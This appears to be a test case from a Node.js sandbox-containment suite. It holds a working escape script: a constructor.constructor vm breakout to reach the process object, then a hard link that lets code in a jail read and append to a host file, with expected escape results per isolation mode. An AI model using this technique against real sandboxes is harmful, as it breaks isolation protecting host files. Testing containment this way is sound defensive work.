/*---
id: fs-hardlink-canary
title: Hard-link canary.txt into the jail
category: fs
goal: Give canary.txt a second name inside the jail, then read and modify the host's file through that in-jail name.
technique: fs.linkSync(runDir/canary.txt, jail/hard) — a hard link is the same inode, so once made, every check based on the path (jail/hard is inside) lets the reads and writes through.
references: https://nodejs.org/api/fs.html#fslinksyncexistingpath-newpath, https://man7.org/linux/man-pages/man2/link.2.html, https://nodejs.org/api/permissions.html#file-system-permissions
expect: * = contained; host = escaped; host+vm = escaped; worker = escaped; worker+vm = escaped; process = escaped; process+vm = escaped
expect-hardened: * = contained; host = escaped; host+vm = escaped; worker = escaped; worker+vm = escaped
---*/
const P =
  typeof process !== 'undefined'
    ? process
    : (() => {
        try {
          return this.constructor.constructor('return process')();
        } catch {
          return undefined;
        }
      })();
const results = {};
if (P) {
  const fs = P.getBuiltinModule('node:fs');
  const runDir = P.cwd().endsWith('/jail') ? P.cwd().slice(0, -'/jail'.length) : P.cwd();
  const hard = `${runDir}/jail/hard-canary.txt`;
  const steps = {
    link: () => fs.linkSync(`${runDir}/canary.txt`, hard),
    read: () => fs.readFileSync(hard, 'utf8').trim(),
    append: () => fs.appendFileSync(hard, 'appended through a hard link\n'), // changes the host's canary.txt
  };
  for (const [name, go] of Object.entries(steps)) {
    try {
      results[name] = go() ?? 'ok';
    } catch (e) {
      results[name] = e.code || e.message;
    }
  }
}
console.log('through jail/hard-canary.txt:', P ? JSON.stringify(results) : 'no process object');
results;
